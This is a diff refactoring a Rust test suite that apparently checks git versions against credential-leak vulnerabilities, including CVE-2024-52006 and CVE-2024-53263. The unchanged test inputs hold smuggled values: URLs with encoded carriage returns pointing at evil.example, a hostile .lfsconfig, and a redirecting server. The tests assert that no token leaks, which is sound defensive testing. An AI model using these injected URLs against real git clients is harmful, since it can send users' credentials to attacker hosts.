@@ -6,7 +6,7 @@ use std::fs;
 use crate::scene::*;
 use crate::town::http::{Answer, Exchange};
 use crate::town::server::Server;
-use crate::town::{Git, Ran, Town};
+use crate::town::{Git, Town};
 
 /// With a clone in `app`, and an attacker's town.
 fn attacked(git: &Git) -> (Scene, Town) {
@@ -42,7 +42,7 @@ fn clone2leak_a_submodule_on_another_host() {
         let ran = scene.home.git(&["clone", "--quiet", "--recursive", &url, "again"]);
         ran.assert_fails();
         assert!(!ran.stderr.contains(&scene.current()), "{ran:?}");
-        assert!(scene.home.path().join("again/.gitmodules").exists(), "the rest came\n{ran:?}");
+        assert!(scene.path("again/.gitmodules").exists(), "the rest came\n{ran:?}");
         assert_saw_no_token(&attacker);
     }
 }
@@ -69,7 +69,7 @@ fn a_git_host_that_redirects_to_another() {
     for git in Git::all() {
         let (mut scene, attacker) = (Scene::careless(&git), Town::start());
         let url = format!("http://{}", attacker.github.host());
-        let redirector = Server::start(0, move |stream| {
+        let redirector = Server::start(move |stream| {
             let Ok(exchange) = Exchange::read_head(stream) else { return };
             let location = format!("{url}{}", exchange.target);
             let _ = exchange.answer(&Answer::new(302, "").header("Location", &location));
@@ -88,17 +88,14 @@ fn cve_2024_52006_a_git_that_lets_carriage_returns_through() {
         let scene = Scene::careless(&git);
         for url in ["http://HOST%0d.evil.example/", "http://evil.example%0dhost=HOST/"] {
             let url = url.replace("HOST", &scene.github.host());
-            let mut command = scene.home.command("git");
-            command.args(["-c", "credential.protectProtocol=false", "credential", "fill"]);
-            let ran = Ran::run(command, format!("url={url}\n\n").as_bytes());
+            let fill = ["-c", "credential.protectProtocol=false", "credential", "fill"];
+            let ran = scene.home.run("git", &fill, &format!("url={url}\n\n"));
             ran.assert_fails();
             assert!(!ran.stdout.contains("password"), "{ran:?}");
         }
         // The same way in works for who asks honestly.
-        let mut command = scene.home.command("git");
-        command.args(["credential", "fill"]);
         let honest = format!("url=http://{}/\n\n", scene.github.host());
-        let ran = Ran::run(command, honest.as_bytes());
+        let ran = scene.home.run("git", &["credential", "fill"], &honest);
         assert!(ran.assert_ok().stdout.contains(&scene.current()), "{ran:?}");
     }
 }
@@ -120,7 +117,7 @@ fn cve_2024_53263_a_hostile_lfsconfig_and_a_real_git_lfs() {
         format!("http://{evil}%0d%0ahost={ours}/"),
     ] {
         let config = format!("[lfs]\n\turl = {url}\n");
-        fs::write(scene.home.path().join("app/.lfsconfig"), config).expect("the clone is ours");
+        fs::write(scene.path("app/.lfsconfig"), config).expect("the clone is ours");
         let ran = scene.home.git_in("app", &["lfs", "locks"]);
         ran.assert_fails();
         assert!(!format!("{ran:?}").contains(&scene.current()), "{ran:?}");
